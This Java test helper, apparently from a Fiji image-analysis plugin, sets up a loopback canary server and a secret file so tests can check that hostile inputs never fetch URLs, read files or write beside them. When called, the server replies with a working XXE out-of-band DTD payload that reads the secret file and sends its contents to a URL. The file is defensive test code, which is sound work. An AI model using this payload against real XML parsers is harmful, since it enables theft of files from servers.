/*-
 * #%L
 * Micro-Expression for Fiji.
 * %%
 * Copyright (C) 2026 Micro-Expression for Fiji developers.
 * %%
 * Redistribution and use in source and binary forms, with or without
 * modification, are permitted provided that the following conditions are met:
 *
 * 1. Redistributions of source code must retain the above copyright notice,
 *    this list of conditions and the following disclaimer.
 * 2. Redistributions in binary form must reproduce the above copyright notice,
 *    this list of conditions and the following disclaimer in the documentation
 *    and/or other materials provided with the distribution.
 *
 * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS"
 * AND ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE
 * IMPLIED WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE
 * ARE DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDERS OR CONTRIBUTORS BE
 * LIABLE FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR
 * CONSEQUENTIAL DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF
 * SUBSTITUTE GOODS OR SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS
 * INTERRUPTION) HOWEVER CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN
 * CONTRACT, STRICT LIABILITY, OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE)
 * ARISING IN ANY WAY OUT OF THE USE OF THIS SOFTWARE, EVEN IF ADVISED OF THE
 * POSSIBILITY OF SUCH DAMAGE.
 * #L%
 */

package org.microexpression;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A server on this computer that nobody is to call, and a secret file that nobody is to read or write: hostile inputs
 * name both. A call is answered with a document type that would send the secret on.
 */
public final class Canary implements AutoCloseable {

	private static final String SECRET = "canary-secret-7391";

	private final ServerSocket server;

	private final AtomicInteger calls = new AtomicInteger();

	private final Path secret;

	private final Path folder;

	/** @param folder where the secret lies, in a folder of its own */
	public Canary(final Path folder) throws IOException {
		this.folder = Files.createDirectories(folder.resolve("canary"));
		secret = Files.writeString(this.folder.resolve("secret.txt"), SECRET);
		server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
		final Thread thread = new Thread(this::listen, "canary");
		thread.setDaemon(true);
		thread.start();
	}

	private void listen() {
		while (!server.isClosed()) {
			try (Socket call = server.accept()) {
				calls.incrementAndGet();
				final String body = "<!ENTITY % s SYSTEM '" + secret.toUri() + "'><!ENTITY % a \"<!ENTITY x SYSTEM '" + url() +
					"?%s;'>\">%a;";
				call.getOutputStream().write(("HTTP/1.0 200 OK\r\nContent-Length: " + body.length() + "\r\n\r\n" + body)
					.getBytes());
			}
			catch (final IOException e) {
				// Closed, or the caller went away.
			}
		}
	}

	/** @return the address that is not to be called */
	public String url() {
		return "http://127.0.0.1:" + server.getLocalPort() + "/";
	}

	/** @return the file that is not to be read */
	public Path secret() {
		return secret;
	}

	/** @return a file that does not exist and is not to be written */
	public Path victim() {
		return folder.resolve("written.txt");
	}

	/** Fails if anybody called, or wrote beside the secret. */
	public void assertUntouched() throws IOException, InterruptedException {
		// A call on its way arrives within this time.
		Thread.sleep(100);
		assertEquals(0, calls.get(), "calls to " + url());
		assertFalse(Files.exists(victim()), victim() + " was written");
		assertEquals(SECRET, Files.readString(secret));
		try (var files = Files.list(folder)) {
			assertEquals(1, files.count());
		}
	}

	/** Fails if a sentence or table gives the secret away. */
	public void assertSecret(final String text) {
		assertFalse(text.contains(SECRET), text);
	}

	@Override
	public void close() throws IOException {
		server.close();
	}
}
